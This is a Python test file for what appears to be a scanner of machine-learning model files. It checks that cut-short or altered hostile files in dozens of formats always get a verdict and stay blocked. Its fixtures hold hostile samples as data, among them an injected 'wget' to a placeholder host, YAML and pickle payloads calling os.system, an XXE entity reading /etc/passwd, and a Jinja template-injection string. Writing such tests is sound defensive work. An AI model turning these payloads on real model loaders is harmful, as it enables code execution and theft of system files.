"""A hostile file of every format, cut short or changed: what was found stays found, and there is always a verdict."""

import json
import struct
from functools import cache

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.builders import hdf5, hdf5_dense, numpy, onnx, torch
from tests.builders import tensorflow as tf
from tests.builders.archives import zipped
from tests.builders.models import blocking, weighed
from tests.builders.pickles import evil
from tests.formats import test_coreml as coreml
from tests.formats import test_native_harm as harm
from tests.formats import test_numbers_beside_graphs as beside
from tests.formats import test_onnx_ort as ort
from tests.formats import test_paddle as paddle
from tests.formats import test_secrets as secrets
from tests.properties.test_built_forms import BOUNDS, EDITS, FORMS
from tests.test_threats import PAIRS
from weighbridge.engines.static.catalogue import threats_of
from weighbridge.formats import SHELF
from weighbridge.policy.finding import Severity
from weighbridge.policy.verdict import EvalOutcome

LAYER = {"module": "os", "class_name": "system", "config": {}, "registered_name": None}
KERAS = {"class_name": "Sequential", "config": {"layers": [LAYER]}}
WRITES = tf.node("WriteFile", "w", "a b"), tf.const("a", "/tmp/x"), tf.const("b", "y")
NOTEBOOK = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}}
CELL = {
    "cell_type": "code",
    "metadata": {},
    "outputs": [],
    "source": ["import base64\n", "exec(base64.b64decode('eA=='))\n"],
}
MORE = {  # of formats that neither table has
    "m.txt": harm.TREES.format("__import__('os')", "train.txt").encode(),
    "m.cbm": b"CBM1" + struct.pack("<I", 64) + b'\0\0\0\0{"dir":"/tmp; wget http://h.invalid/a"}'.ljust(64),
    "m.plan": b"ptrt" + bytes(40) + b"/tmp/libevil.so\0" + bytes(40),
    "lite.json": json.dumps({"operator_codes": [{"custom_code": "Acme"}], "subgraphs": []}).encode(),
    "m.pkl": evil(4),
    "m.joblib": b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x930" + evil(4)[2:],
    "m.npy": numpy.npy("'|O'", "(1,)", evil(4)),
    "a.npy": numpy.npy(data=bytes(16) + evil(4)),
    "m.pth": torch.legacy({"w": 4}) + evil(2),
    "t.pt": torch.archive(torch.checkpoint({"w": 4}, data_pkl=evil(2))),
    "m.h5": hdf5.new((0x06, hdf5.external("w", "/etc/passwd"))),
    "d.h5": hdf5_dense.attributes(hdf5.attribute("model_config", json.dumps(KERAS).encode(), 3)),
    "v.h5": hdf5_dense.virtual("../x.h5"),
    "m.json": json.dumps(KERAS).encode(),
    "pickled.json": b'{"a": 1, "py/reduce": [{"py/function": "posix.system"}, {"py/tuple": ["echo"]}]}',
    "weka.model": b"\xac\xed\0\5sr\0\x11java.util.HashMap"
    b"sr\0:org.apache.commons.collections.functors.InvokerTransformer",
    "code.bin": b"\xe3" + struct.pack("<5I", 0, 0, 0, 2, 64) + b"\xf3\x08\0\0\0" + bytes(30) + b"\xda\x06system",
    ".zarray": b'{"zarr_format": 2, "shape": [1], "filters": [{"id": "pickle"}]}',
    "m.gin": b"import os\ntrain.callback = @os.system()\nos.system.command = 'echo'\n",
    "inference.json": b'{"base_code": {"magic": "pir"}, "program": {"ops": [{"#": "pd_op.py_func"}]}}',
    "hydra.yaml": b"model:\n  _target_: os.system\n  command: echo\n",
    "y.yaml": b"a: !!python/object/apply:os.system ['echo']\n",
    "chat_template.jinja": b"{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "lfs.bin": b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n",
    "m.mlmodel": coreml.model(500, coreml.network(coreml.CUSTOM)),
    "m.pdmodel": paddle.program(paddle.block(paddle.operator("py_func"))),
    "m.ort": ort.ort(ort.node("PyOp")),
    "t.pb": onnx.tensor(external={"location": "../x"}),
    "m.onnxtxt": b'<ir_version: 8, opset_import: ["acme": 1]>\ng (float[1] x) => (float[1] y) {\n y = acme.Evil(x)\n}',
    "frozen.pb": tf.graph(*WRITES),
    "m.meta": tf.meta_graph(tf.graph(*WRITES)),
    "saved_model.pbtxt": b'saved_model_schema_version: 1 meta_graphs { graph_def { node { name: "a" op: "PyFunc" }}}',
    "m.pbtxt": b'node { calculator: "PythonExecutorCalculator" input_stream: "a" output_stream: "b" }\n',
    "saved_model_config.pb": beside.config("grpc://10.0.0.1:8470"),
    "n.ipynb": json.dumps({**NOTEBOOK, "cells": [CELL]}).encode(),
    "handler.py": b"import os\nos.system('echo')\n",
    "m.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(20) + b"\xda\x02os\xda\x06system",
    "requirements.txt": b"--index-url http://host.invalid/simple\nnumpy\n",
    "libops.so": b"\x7fELF\2\1\1" + bytes(57),
    "pytorch_model.bin": b"#!/bin/sh\necho inert\n",
    "net.xml": b'<?xml version="1.0"?><!DOCTYPE n [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>\n',
    "MLmodel": b"flavors:\n  python_function:\n    loader_module: os\n    code: code\n",
    "adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "/proc/self/environ"}).encode(),
    "model_index.json": json.dumps({"_class_name": "P", "unet": ["os", "system"]}).encode(),
    "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]).encode(),
    "config.json": json.dumps({"auto_map": {"AutoModel": "../x--modeling.M"}, "model_type": "x"}).encode(),
    "x.pth": b"import os; os.system('echo')\n",
    "config.pbtxt": b'backend: "python"\nparameters { key: "EXECUTION_ENV_PATH" value { string_value: "/tmp/e.tar" } }',
    "bentofile.yaml": b"service: os:system\n",
    "numpy.py": b"x = 1\n",
    "k.keras": zipped(("config.json", json.dumps(KERAS).encode()), ("metadata.json", b"{}")),
    "README.md": f"token: {next(iter(secrets.SECRETS.values()))}\n".encode(),
}
ROWS = {code: (path, hostile) for code, (path, hostile, _) in PAIRS.items()}
ROWS |= {name: (name, data) for name, data in (FORMS | MORE).items()}
GROWS = {"bentofile.yaml"}  # `os` is no `os:`, nor is that `os:system`
CUTS = 120  # lengths of each file that are tried


def found(data: bytes, path: str) -> tuple[EvalOutcome, set[str]]:
    verdict = weighed(data, path, **BOUNDS)
    return verdict.eval_outcome, {each.threat.code for each in blocking(verdict)} - {"FILE-101"}


@pytest.mark.parametrize("module", SHELF.names())
def test_every_format_with_a_threat_has_a_row(module):
    """A hostile file of it, built, that is BLOCKED."""
    format, threats = SHELF.load(module), threats_of(module)
    if any(threat.severity > Severity.INFO for threat in threats):
        assert format.name in blocked_formats(), f"{module}: a hostile file belongs into the table MORE"


@cache
def blocked_formats() -> set[str]:
    verdicts = [weighed(data, path, **BOUNDS) for path, data in ROWS.values()]
    blocked = [verdict for verdict in verdicts if verdict.eval_outcome is EvalOutcome.BLOCKED]
    return {name for verdict in blocked for file in verdict.files for name in file.formats}


@pytest.mark.parametrize("row", sorted(ROWS.keys() - GROWS))
def test_what_a_cut_leaves_stays_found(row):
    """Once a cut file shows its threat, every longer one is BLOCKED; and there is always a verdict."""
    path, data = ROWS[row]
    whole, codes = found(data, path)
    shown = False
    for length in range(0, len(data), max(len(data) // CUTS, 1)):
        outcome, seen = found(data[:length], path)
        shown = shown or (outcome is EvalOutcome.BLOCKED and bool(seen & codes))
        assert outcome is not EvalOutcome.ERROR, length
        assert not shown or outcome is EvalOutcome.BLOCKED, length
    assert whole is EvalOutcome.BLOCKED


@pytest.mark.parametrize("row", sorted(ROWS.keys() - FORMS.keys()))
@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(edits=EDITS, named=st.booleans())
def test_changed_file_has_a_verdict(row, edits, named):
    """Bytes overwritten, inserted and taken out, under its own name and under none."""
    path, data = ROWS[row]
    changed = bytearray(data)
    for place, gone, put in edits:
        at = int(place * len(changed))
        changed[at : at + gone] = put
    assert found(bytes(changed), path if named else "m")[0] is not EvalOutcome.ERROR
